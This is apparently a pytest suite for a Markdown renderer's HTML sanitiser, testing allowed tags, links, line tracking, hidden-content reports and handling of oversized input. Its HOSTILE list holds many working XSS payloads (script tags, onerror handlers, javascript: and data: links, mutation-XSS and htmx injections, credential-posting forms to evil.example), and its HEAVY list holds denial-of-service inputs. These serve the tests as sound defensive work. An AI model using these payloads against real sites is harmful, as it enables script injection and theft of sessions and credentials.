"""Documents are hostile until rendered: what reaches a page, and what it says of the source."""

import re
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from runs import rendering
from runs.rendering import Rendered, TocEntry, render
from runs.rendering.highlighting import LANGUAGES, Highlighter

# Written out here on purpose: a tag added to the product is only harmless when someone says so
# twice.
TAGS = set(
    """
    a abbr b blockquote br caption cite code dd del details dfn div dl dt em h1 h2 h3 h4 h5 h6 hr
    i input kbd li mark ol p pre q s samp small span strong sub summary sup table tbody td tfoot
    th thead tr u ul var
    """.split()  # noqa: SIM905
)
ATTRIBUTES = set(
    """
    align aria-label checked class colspan data-end data-line disabled href id open rel rowspan
    scope start title type
    """.split()  # noqa: SIM905
)
VOID = {"br", "hr", "input"}
REL = "noopener noreferrer nofollow"


class Page(HTMLParser):
    """What a browser would find: elements with their text, in order."""

    def __init__(self, rendered: Rendered) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.texts: list[str] = []
        self.comments: list[str] = []
        self.paths: list[str] = []
        self._open: list[int] = []
        self.feed(rendered.html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        self.texts.append("")
        self.paths.append("/".join([*(self.elements[i][0] for i in self._open), tag]))
        if tag not in VOID:
            self._open.append(len(self.elements) - 1)

    def handle_endtag(self, tag: str) -> None:
        assert self.elements[self._open.pop()][0] == tag

    def handle_data(self, data: str) -> None:
        for index in self._open:
            self.texts[index] += data

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def all(self, name: str) -> list[dict[str, str]]:
        return [attributes for tag, attributes in self.elements if tag == name]

    def text_of(self, name: str) -> list[str]:
        pairs = zip(self.elements, self.texts, strict=True)
        return [text.strip() for (tag, _), text in pairs if tag == name]

    def lines(self, name: str) -> list[tuple[int, int]]:
        return [(int(a["data-line"]), int(a["data-end"])) for a in self.all(name)]


def page(markdown: str) -> Page:
    return Page(render(markdown))


def is_plain(rendered: Rendered) -> bool:
    return rendered.html.startswith('<p class="notice">')


def assert_harmless(rendered: Rendered) -> None:
    found = Page(rendered)
    assert not found.comments
    for tag, attributes in found.elements:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        assert_addresses_are_harmless(attributes)
        if tag == "input":
            assert attributes["type"] == "checkbox"
            assert attributes["disabled"] == ""
        if tag == "a":
            assert attributes["rel"] == REL
        if "id" in attributes:
            assert attributes["id"].startswith("user-content-")
        for name in ("data-line", "data-end"):
            assert re.fullmatch("[1-9][0-9]*|", attributes.get(name, ""))


def assert_addresses_are_harmless(attributes: dict[str, str]) -> None:
    address = attributes.get("href")
    if address is None:
        return
    assert not re.search(r"[\x00-\x1f]", address)
    assert address == address.strip()
    if address.startswith("#"):
        assert address.startswith("#user-content-") or address == "#"
        return
    scheme = re.match("([^/?#]*?):", address)
    assert scheme is None or scheme[1].lower() in {"http", "https", "mailto"}
    if scheme is None:
        assert not address.startswith(("/", "\\", ".."))


HOSTILE = [
    # elements that run, load or take input
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT >",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script>alert(1)",
    "text <script> swallows the rest",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif" width=1 height=1>',
    '<img srcset="https://evil.example/pixel.gif 2x">',
    "<picture><source srcset=https://evil.example/a.webp><img src=a></picture>",
    "<image src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=text name=csrfmiddlewaretoken autofocus onfocus=alert(1)>",
    "<input type=image src=https://evil.example/x.png>",
    "<input type=hidden value=x form=answer>",
    "<select onchange=alert(1)><option>a</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<textarea></p><img src=x onerror=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open>covers the page</dialog>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<plaintext>swallows the rest",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title></title><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<html><body onload=alert(1)>",
    "<frameset onload=alert(1)>",
    "<x-custom onclick=alert(1)>x</x-custom>",
    # foreign content, and markup that changes when it is parsed again
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><use href=data:image/svg+xml,x#y /></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea>"
    "<img onerror=alert(1) src=1>'>",
    "<table><td><svg><desc><td><a title='</desc></svg><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    # attributes on tags that are allowed
    "<p onclick=alert(1)>x</p>",
    "<p ONCLICK=alert(1)>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<b onmouseover=alert(1)>x</b>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
    "<div style=behavior:url(x)>x</div>",
    "<a href=https://ok.example target=_top ping=https://evil.example>x</a>",
    "<a href=https://ok.example download=x.exe>x</a>",
    "<td background=https://evil.example/x.png>x</td>",
    "<table background=https://evil.example/x.png><tr><td>x</table>",
    "<blockquote cite=https://evil.example>x</blockquote>",
    "<div hx-get=/runs/ hx-trigger=load>x</div>",
    "<div data-hx-post=/requests/1/answer data-hx-trigger=load>x</div>",
    "<a hx-delete=/x href=https://ok.example>x</a>",
    "<div hx-on:load=alert(1)>x</div>",
    "<div hx-ext=sse sse-connect=https://evil.example>x</div>",
    "<div ws-connect=wss://evil.example>x</div>",
    "<p contenteditable accesskey=a tabindex=1 draggable=true>x</p>",
    "<p is=x-button slot=a part=b nonce=c>x</p>",
    "<p xmlns=http://www.w3.org/2000/svg xlink:href=x>x</p>",
    "<p data-line=1 data-end=9>a forged line</p>",
    "<p class='notice modal htmx-indicator'>x</p>",
    "<ol start=javascript:alert(1)><li value=9 onclick=x>x</ol>",
    # names the page itself uses
    "<a id=answer-form name=location>x</a>",
    "<a id=document><a id=document name=cookie>x</a></a>",
    "<div id=__proto__ name=body>x</div>",
    "# constructor\n\n# __proto__\n\n# forms",
    # addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script&colon;alert(1))",
    "[x](<\x01javascript:alert(1)>)",
    "[x](&#1;javascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<  javascript:alert(1)>)",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example)",
    "[x](blob:https://evil.example/1)",
    "[x](intent://evil#Intent;end)",
    "[x](view-source:https://evil.example)",
    "[x](feed:javascript:alert(1))",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](/admin/logout/)",
    "[x](../../admin/)",
    "[x](%2e%2e/%2e%2e/admin/)",
    "[x](a/../../admin/)",
    "[x](?next=https://evil.example)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script&colon;alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href=\x01javascript:alert(1)>x</a>",
    "<a href=javascript&#x3A;alert(1)>x</a>",
    "[x][j]\n\n[j]: javascript:alert(1)",
    "[j]\n\n[j]: data:text/html,<script>alert(1)</script>",
    "![x][j]\n\n[j]: javascript:alert(1) 'onerror=alert(1)'",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[![x](https://evil.example/badge.svg)](https://ok.example)",
    '[x](https://ok.example "\\" onmouseover=\\"alert(1)")',
    "[x](https://ok.example '\" onmouseover=\"alert(1)')",
    '[x](https://ok.example/"onmouseover=alert(1))',
    '[x](<https://ok.example/"><script>alert(1)</script>>)',
    '![" onerror="alert(1)](https://evil.example)',
    '<https://ok.example/"onmouseover="alert(1)>',
    'https://ok.example/"><img/src=x/onerror=alert(1)>',
    'www.ok.example/"><script>alert(1)</script>',
    'a"onclick="alert(1)@ok.example',
    "<a@b.example\"onclick='alert(1)>",
    # code and tables
    '```"><script>alert(1)</script>\ncode\n```',
    "```python onclick=alert(1)\ncode\n```",
    "```html\n<script>alert(1)</script>\n```",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
    "~~~\"'><svg/onload=alert(1)>\ncode\n~~~",
    "    <script>alert(1)</script>",
    "`<img src=x onerror=alert(1)>`",
    "|a<script>|b|\n|:-:|---|\n|<img src=x onerror=alert(1)>|<b onclick=x>|",
    "---\ntitle: <script>alert(1)</script>\n'<img src=x onerror=alert(1)>': x\n---\ntext",
    "# <img src=x onerror=alert(1)>",
    '# " onclick=alert(1) x="',
    "- [x] <input type=checkbox onclick=alert(1)>",
    # the marks the renderer uses itself
    "\x02wzxhzdk:0\x03 <b>x</b>",
    "\x02klzzwxh:0000\x03 *x*",
    "\x0260\x03script\x0262\x03",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script\\>alert(1)\\</script\\>",
]
PLACES = ["{}", "text {} text", "- item\n\n  {}", "> {}", "|a|\n|-|\n|{}|", "<div>\n\n{}\n\n</div>"]


@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_leaves_only_what_is_allowed(payload: str) -> None:
    for place in PLACES:
        rendered = render(place.format(payload))

        assert_harmless(rendered)
        assert not is_plain(rendered)


@settings(deadline=None)
@given(st.text(max_size=300))
def test_any_text_is_rendered_to_something_harmless(text: str) -> None:
    assert_harmless(render(text))


PIECES = [
    "a",
    " ",
    "\n",
    "\n\n",
    "- ",
    "> ",
    "# ",
    "|",
    "|-|",
    "`",
    "```",
    "*",
    "_",
    "~~",
    "[",
    "]",
]
PIECES += ["(", ")", "!", "<", ">", "</", "<!--", "-->", "<b ", "<a href=", "'", '"', "=", "&", ";"]
PIECES += [
    "&#60;",
    "javascript:",
    "https://x.example",
    "\\",
    "\t",
    ":",
    "---\n",
    "\x02",
    "\x03",
    "\u202e",
]
PIECES += [
    "<script>",
    "<style>",
    "<svg>",
    "<math>",
    "onclick=",
    "x@y.example",
    "[a]: ",
    "1. ",
    "[x] ",
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=60).map("".join))
def test_any_markup_is_rendered_to_something_harmless(text: str) -> None:
    rendered = render(text)

    assert_harmless(rendered)
    assert not is_plain(rendered)


@pytest.mark.parametrize(
    ("source", "told"),
    [
        ("text\n\n[here](javascript:word)", "The address of a link is hidden on line 3."),
        ("<a href=javascript:word>here</a>", "Part of the HTML tag <a> is hidden on line 1."),
        ('<a href="java\tscript:word">here</a>', "Part of the HTML tag <a> is hidden on line 1."),
    ],
)
def test_an_address_that_is_left_out_of_a_link_is_told(source: str, told: str) -> None:
    assert render(source).hidden == (told,)


WORDS = st.lists(st.sampled_from(PIECES), min_size=1, max_size=12)


@settings(max_examples=300, deadline=None)
@given(WORDS)
def test_a_word_of_the_source_is_shown_or_reported_as_hidden(pieces: list[str]) -> None:
    words = [f"word{number}x" for number in range(len(pieces))]
    source = "".join(piece + word for piece, word in zip(pieces, words, strict=True))

    rendered = render(source)

    assert rendered.hidden or all(word in rendered.html for word in words)


@settings(deadline=None)
@given(st.text(max_size=200))
def test_a_text_is_always_rendered_the_same_way(text: str) -> None:
    assert render(text) == render(text)


def test_half_a_surrogate_pair_does_no_harm() -> None:
    assert "\ufffd" in render("a \ud83d b").html


def test_an_empty_document_is_an_empty_page() -> None:
    assert render("") == render("\n \n") == Rendered(html=render("").html, toc=(), hidden=())
    assert render("").html == ""


def test_tags_that_could_swallow_the_rest_only_lose_themselves() -> None:
    for tag in ("script", "style", "plaintext", "textarea", "title", "xmp", "select", "template"):
        text = "".join(page(f"before <{tag}> inside\n\nafter").texts)

        assert "inside" in text
        assert "after" in text


def test_an_unknown_tag_is_shown_as_it_is_written() -> None:
    found = page("Replace <project-name> in `Map<K, V>` with List<String>.\n\n<name>\n*text*")

    assert found.text_of("p") == [
        "Replace <project-name> in Map<K, V> with List<String>.",
        "<name>\ntext",
    ]


def test_allowed_html_is_kept() -> None:
    found = page(
        "Press <kbd>Ctrl</kbd>, H<sub>2</sub>O.<br>Next\n\n<details open>\n\n*in*\n\n</details>"
    )

    assert found.text_of("kbd") == ["Ctrl"]
    assert found.text_of("sub") == ["2"]
    assert found.paths[-1] == "details/p/em"


def test_an_open_tag_with_attributes_cannot_make_the_page_grow() -> None:
    tags = "".join(f"<b id=x{number}>" for number in range(1_000))

    assert len(render(tags + "<p>" * 1_000).html) < 500_000


# --- GitHub Flavored Markdown -------------------------------------------------------------------


def test_lists_nest_by_two_spaces() -> None:
    found = page("- one\n  - two\n    - three\n- four")

    assert found.paths.count("ul/li/ul/li/ul/li") == 1
    assert found.paths.count("ul/li") == 2


def test_a_list_may_follow_a_paragraph_directly() -> None:
    found = page("Steps:\n- one\n- two")

    assert found.paths == ["p", "ul", "ul/li", "ul/li"]
    assert found.text_of("p") == ["Steps:"]


def test_numbered_lists_keep_their_first_number() -> None:
    assert page("3. three\n4. four").all("ol")[0]["start"] == "3"


def test_a_fence_in_a_list_item_stays_in_the_item() -> None:
    found = page("1. Run:\n   ```sh\n   faber up\n   ```\n2. Look")

    assert "ol/li/pre/code" in found.paths
    assert found.text_of("code") == ["faber up"]
    assert len(found.all("ol")) == 1


def test_a_longer_fence_holds_a_shorter_one() -> None:
    assert page("````md\n```py\nx\n```\n````").text_of("code") == ["```py\nx\n```"]


def test_tables_have_a_head_a_body_and_alignment() -> None:
    found = page("| a | b |\n|:--|--:|\n| *1* | x \\| y |")

    assert found.text_of("th") == ["a", "b"]
    assert found.text_of("td") == ["1", "x | y"]
    assert [cell["align"] for cell in found.all("td")] == ["left", "right"]
    assert "table/tbody/tr/td/em" in found.paths


def test_task_lists_are_boxes_nobody_can_use() -> None:
    found = page("- [x] done\n- [ ] to do\n- neither")

    done, to_do = found.all("input")
    assert (done["checked"], done["aria-label"]) == ("", "Done")
    assert "checked" not in to_do
    assert to_do["aria-label"] == "To do"
    classes = [item.get("class") for item in found.all("li")]
    assert classes == ["task-list-item", "task-list-item", None]
    assert found.text_of("li") == ["done", "to do", "neither"]


def test_emphasis_is_read_as_github_reads_it() -> None:
    found = page("**a *b* c** ~~d~~ `e` snake_case_name *d**d*a***y")

    assert found.text_of("strong") == ["a b c"]
    assert found.text_of("del") == ["d"]
    assert found.text_of("code") == ["e"]
    assert found.text_of("p") == ["a b c d e snake_case_name d**da***y"]


def test_lines_break_where_two_spaces_or_a_backslash_say_so() -> None:
    assert len(page("a  \nb\\\nc\nd").all("br")) == 2


def test_bare_addresses_become_links() -> None:
    found = page("See https://x.example/a_b?c=1&d=2, www.y.example and me@z.example.")

    assert [link["href"] for link in found.all("a")] == [
        "https://x.example/a_b?c=1&d=2",
        "http://www.y.example",
        "mailto:me@z.example",
    ]


def test_a_bare_address_in_a_link_or_in_code_is_not_a_second_link() -> None:
    assert len(page("[https://x.example](https://y.example) `https://z.example`").all("a")) == 1


def test_an_entity_written_out_is_shown_as_written() -> None:
    assert page("&amp;lt; and `&lt;` and &copy;").text_of("p") == ["&lt; and &lt; and ©"]


def test_an_alert_is_marked_by_its_kind() -> None:
    found = page("> [!WARNING]\n> Mind the gap")

    assert found.all("div")[0]["class"] == "markdown-alert markdown-alert-warning"
    assert found.text_of("p") == ["Warning", "Mind the gap"]


def test_code_is_coloured_by_classes_only() -> None:
    found = page("```python\ndef f():\n\treturn 1\n```")

    assert found.all("code") == [{"class": "language-python"}]
    assert found.all("span")[0] == {"class": "k"}
    assert found.text_of("code") == ["def f():\n\treturn 1"]


def test_mermaid_and_unknown_languages_are_shown_as_code() -> None:
    found = page("```mermaid\ngraph TD\n```\n\n```nonesuch\n<x>\n```")

    assert [code["class"] for code in found.all("code")] == [
        "language-mermaid",
        "language-nonesuch",
    ]
    assert found.text_of("code") == ["graph TD", "<x>"]
    assert not found.all("span")


@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_every_language_has_a_lexer_that_keeps_the_text(language: str) -> None:
    code = "a = 'b' # <c> & \"d\"\n\n\tx: [1, 2]\n"
    colours = Highlighter().html(code, language)

    assert unescape(re.sub("<[^>]*>", "", colours)) == code


def test_images_are_links_to_where_they_are() -> None:
    found = page("![a chart](https://x.example/c.png) ![](shots/1.png) [![ci](b.svg)](https://ci)")

    assert not found.all("img")
    assert [link["href"] for link in found.all("a")] == [
        "https://x.example/c.png",
        "shots/1.png",
        "https://ci",
    ]
    assert found.text_of("a") == ["Image: a chart", "Image: shots/1.png", "ci"]


def test_raw_images_are_links_too() -> None:
    found = page('<img alt="a &amp; b" src="https://x.example/c.png?a=1&amp;b=2" onerror=x>')

    assert found.all("a") == [{"href": "https://x.example/c.png?a=1&b=2", "rel": REL}]
    assert found.text_of("a") == ["Image: a & b"]


def test_links_stay_on_their_kind_of_address() -> None:
    source = "[a](docs/x.md#y) [b](mailto:x@y.example) [c](/runs/) [d](//evil.example) [e](?a=b)"

    addresses = [link.get("href") for link in page(source).all("a")]

    assert addresses == ["docs/x.md#y", "mailto:x@y.example", None, None, None]


# --- anchors and contents -----------------------------------------------------------------------


def test_headings_have_anchors_as_on_github() -> None:
    toc = render("# Files & `folders`!\n## Über_uns\n## Über_uns\n### *x* <b>y</b>").toc

    assert toc == (
        TocEntry(1, "Files & folders!", "user-content-files--folders"),
        TocEntry(2, "Über_uns", "user-content-über_uns"),
        TocEntry(2, "Über_uns", "user-content-über_uns-1"),
        TocEntry(3, "x y", "user-content-x-y"),
    )


def test_links_within_the_document_meet_their_headings() -> None:
    found = page("[down](#part-two) <a href='#part-two'>down</a>\n\n# Part two")

    assert [link["href"] for link in found.all("a")] == ["#user-content-part-two"] * 2
    assert found.all("h1")[0]["id"] == "user-content-part-two"


def test_a_heading_without_words_has_no_anchor() -> None:
    assert render("#\n\n# <!-- x -->").toc == ()


def test_equal_and_numbered_headings_never_share_an_anchor() -> None:
    anchors = [entry.anchor for entry in render("# a\n# a\n# a-1\n# a\n# a-1").toc]

    assert len(set(anchors)) == 5


# --- source lines -------------------------------------------------------------------------------

DOCUMENT = """\
# Title

A paragraph
of two lines.

- one
  - nested
    over two lines
- two

  loose

> quoted
> text

| a | b |
|---|---|
| 1 | 2 |

```sh
faber up
```

***

<details>
<summary>More</summary>

    indented

</details>
"""


def test_every_block_knows_its_lines() -> None:
    found = page(DOCUMENT)

    assert found.lines("h1") == [(1, 1)]
    assert found.lines("ul") == [(6, 11), (7, 8)]
    assert found.lines("li") == [(6, 8), (7, 8), (9, 11)]
    assert found.lines("p") == [(3, 4), (6, 6), (9, 9), (11, 11), (13, 14)]
    assert found.lines("blockquote") == [(13, 14)]
    assert found.lines("table") == [(16, 18)]
    assert found.lines("tr") == [(16, 16), (18, 18)]
    assert found.lines("hr") == [(24, 24)]
    assert found.lines("details") == [(26, 27)]
    assert found.lines("pre") == [(20, 22), (29, 29)]


def test_lines_count_from_the_file_after_front_matter() -> None:
    found = page("---\ntitle: x\n---\n\n# Title\n\ntext")

    assert found.lines("table") == [(1, 3)]
    assert found.lines("h1") == [(5, 5)]
    assert found.lines("p") == [(7, 7)]


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_every_kind_of_line_end_counts_once(end: str) -> None:
    assert page(f"a{end}{end}b{end}c{end}").lines("p") == [(1, 1), (3, 4)]


def test_a_document_cannot_forge_lines() -> None:
    found = page("real\n\n<p data-line='1' data-end='1'>forged</p>\n\nx <b data-line=1>y</b>")

    assert found.lines("p") == [(1, 1), (3, 3), (5, 5)]
    assert found.all("b") == [{}]


# --- front matter -------------------------------------------------------------------------------


def test_front_matter_is_a_table_of_what_is_written() -> None:
    source = "---\nversion: 1.10\nanswer: no # really\ntags:\n  - a\n  - b\n---\n# Title"

    found = page(source)

    assert found.text_of("th") == ["version", "answer", "tags"]
    assert found.text_of("td") == ["1.10", "no # really", "- a\n  - b"]
    assert found.lines("tr") == [(2, 2), (3, 3), (4, 6)]
    assert found.text_of("h1") == ["Title"]


@pytest.mark.parametrize(
    "source", ["---\n\ntext\n\n---\n", "---\na: b\n", "---\nno mapping\n---\n"]
)
def test_a_rule_at_the_top_is_not_front_matter(source: str) -> None:
    assert not page(source).all("table")
    assert len(page(source).all("hr")) >= 1


# --- what a reader cannot see -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "sentence"),
    [
        ("a\n\n<!-- secret -->", "An HTML comment is hidden on line 3."),
        ("a <!-- x\ny --> b", "An HTML comment is hidden on lines 1 to 2."),
        ("a\n\n<!-- to the\n\nend", "An HTML comment is hidden on lines 3 to 5."),
        ("- `a\n  b` <!-- x -->", "An HTML comment is hidden on line 2."),
        ("zero\u200bwidth", "The character U+200B (zero width space) is hidden on line 1."),
        ("a&#8203;b", "The character U+200B (zero width space) is hidden on line 1."),
        ("<p>\n&#x202e;b", "The character U+202E (right-to-left override) is hidden on line 2."),
        ("a\n\u202eb", "The character U+202E (right-to-left override) is hidden on line 2."),
        ("`\u2066`", "The character U+2066 (left-to-right isolate) is hidden on line 1."),
        ("a\U000e0041", "The character U+E0041 (tag latin capital letter a) is hidden on line 1."),
        ("a\x08b", "The character U+0008 (control character) is hidden on line 1."),
        ("x <iframe srcdoc=y> z", "The HTML tag <iframe> is hidden on line 1."),
        ("<p>a\n<b do as I say>", "Part of the HTML tag <b> is hidden on line 2."),
        ("x\n\n[//]: # (do as I say)", "An unused link definition is hidden on line 3."),
        ("[a]\n\n[a]: b\n[a]: c", "An unused link definition is hidden on line 4."),
        ("|a|\n|-|\n|b|c|", "A table cell without a heading is hidden on line 3."),
        ("```py do as I say\n```", "Text after the language of a code block is hidden on line 1."),
    ],
)
def test_what_is_hidden_is_said_with_its_line(source: str, sentence: str) -> None:
    assert render(source).hidden == (sentence,)


def test_lines_of_the_same_kind_are_said_together() -> None:
    comments = "\n\n".join("<!-- x -->" for _ in range(3))
    many = "\n\n".join("<!-- x -->" for _ in range(100))

    assert render(comments).hidden == ("An HTML comment is hidden on lines 1, 3 and 5.",)
    assert render(many).hidden[0].endswith("19, 21 and more.")


def test_only_so_many_kinds_are_said_one_by_one() -> None:
    tags = "".join(chr(0xE0020 + number) for number in range(30))

    assert len(render(tags).hidden) == 21
    assert render(tags).hidden[-1] == "10 more kinds of content are hidden."


@pytest.mark.parametrize(
    "source",
    [
        "```html\n<!-- shown -->\n```",
        "`<!-- shown -->` and \\<!-- shown -->",
        "[a][b]\n\n[b]: https://x.example",
        "👩\u200d💻 and ❤\ufe0f",
        "\ufeff# Title",
        '<a href="x" title="y">z</a> <td align=center colspan="2">',
        "|a|b|\n|-|-|\n|c \\| d|",
        "> |a|b|\n> |-|-|\n> |c|d|",
        "```python\n```",
        "---\nkey: value # comment\n---",
    ],
)
def test_what_can_be_seen_is_not_called_hidden(source: str) -> None:
    assert render(source).hidden == ()


def test_comments_do_not_reach_the_page() -> None:
    assert "secret" not in render("a <!-- secret --> b\n\n<!--\nsecret").html


# --- too much -----------------------------------------------------------------------------------

HEAVY = {
    "brackets": "[" * 20_000,
    "image brackets": "![" * 10_000,
    "open tags": "<a " * 20_000,
    "nested lists": "".join("  " * depth + "- a\n" for depth in range(300)),
    "footnotes": "".join(f"[^{n}] " for n in range(3_000))
    + "\n\n"
    + "".join(f"[^{n}]: note {n}\n\n" for n in range(3_000)),
    "closed brackets": "[" * 20_000 + "]" * 20_000,
    "half links": "[a](" * 20_000,
    "quoted titles": "[a](b '\"" * 10_000,
    "backticks": "``a`" * 10_000,
    "more and more backticks": " ".join("`" * n for n in range(1, 700)),
    "stars": "*a **b " * 10_000,
    "nested emphasis": "*a " * 10_000 + "b*" * 10_000,
    "quotes in quotes": ">" * 50_000,
    "deep quotes": (">" * 30 + " a\n") * 10_000,
    "lists in one line": "- " * 50_000,
    "wide table": "|a" * 20_000 + "|\n" + "|-" * 20_000 + "|\n" + "a\n" * 20_000,
    "items": "- a\n" * 100_000,
    "lines": "a\n" * 200_000,
    "blank lines": "\n" * 500_000,
    "headings": "# a\n" * 100_000,
    "definitions": "".join(f"[a{n}]: b\n" for n in range(40_000)),
    "one long address": "[a]: https://" + "x" * 100_000 + "\n\n" + "[a] " * 50_000,
    "nested tags": "<div>" * 50_000,
    "attributes": "<p " + "a=b " * 50_000 + ">",
    "comments": "<!-- " * 50_000,
    "addresses": "www.a.example " * 30_000,
    "entities": "&amp;" * 100_000,
    "front matter": "---\n" + "a: b\n" * 50_000 + "---\n",
    "spaces in a key": "---\na" + " " * 100_000 + "\n---\n",
    "invisible": "\u202e" * 150_000,
    "code": ("```c\n" + "//" * 8_000 + "\n```\n") * 20,
    "comments in code": ("```c\n" + "/*\n" * 5_000 + "\n```\n") * 20,
    "half a megabyte and more": "a" * 600_000,
}


@pytest.mark.timeout(20)
@pytest.mark.parametrize("source", HEAVY.values(), ids=HEAVY)
def test_no_document_keeps_a_page_waiting(source: str) -> None:
    assert_harmless(render(source))


@pytest.mark.parametrize(
    ("source", "why"),
    [
        ("é" * 300_000, "This document is larger than 512 KB."),
        (HEAVY["nested lists"], "This document is nested too deeply to render."),
        (HEAVY["brackets"], "This document has too many lines or marks to render."),
        (HEAVY["items"], "This document has too many lines or marks to render."),
        ("<i>\n\n" * 5_000, "This document has too many HTML tags to render."),
    ],
    ids=["size", "nesting", "brackets", "blocks", "tags"],
)
def test_what_is_too_much_is_shown_as_it_is_and_says_why(source: str, why: str) -> None:
    rendered = render(source)
    found = Page(rendered)

    assert found.text_of("p") == [f"{why} Showing it as plain text."]
    assert "".join(found.texts[1:]).removeprefix("\n") == source
    assert found.lines("pre") == [(1, source.rstrip("\n").count("\n") + 1)]
    assert rendered.toc == ()


def test_plain_text_is_escaped_and_still_says_what_is_hidden() -> None:
    rendered = render("<script>alert(1)</script>\u200b\n" * 30_000)

    assert is_plain(rendered)
    assert_harmless(rendered)
    assert rendered.hidden[0].startswith("The character U+200B (zero width space) is hidden")


@pytest.mark.timeout(20)
def test_only_the_beginning_of_a_huge_text_is_shown_and_that_is_said() -> None:
    rendered = render("a b c d\u200b\n" * 4_000_000)

    assert len(rendered.html) < 1_100_000
    assert "The rest of the document is hidden on lines 111112 to 4000001." in rendered.hidden


def test_a_broken_parser_does_not_break_the_page(monkeypatch: pytest.MonkeyPatch) -> None:
    def explode(*_: object) -> None:
        raise RecursionError

    monkeypatch.setattr("markdown.Markdown.convert", explode)

    assert Page(render("# <b>")).text_of("pre") == ["# <b>"]


# --- the code itself ----------------------------------------------------------------------------


def test_only_one_function_calls_text_safe() -> None:
    sources = Path(rendering.__file__).parent.glob("*.py")

    assert sum(source.read_text().count("mark_safe(") for source in sources) == 1


def _brightness(colour: str) -> float:
    channels = [int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
    linear = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def _contrast(one: str, other: str) -> float:
    dark, light = sorted((_brightness(one), _brightness(other)))
    return (light + 0.05) / (dark + 0.05)


def test_every_colour_of_code_can_be_read() -> None:
    css = (Path(rendering.__file__).parents[2] / "static/css/code.css").read_text()
    pairs = re.findall(r"light-dark\((#\w{6}), (#\w{6})\)", css)

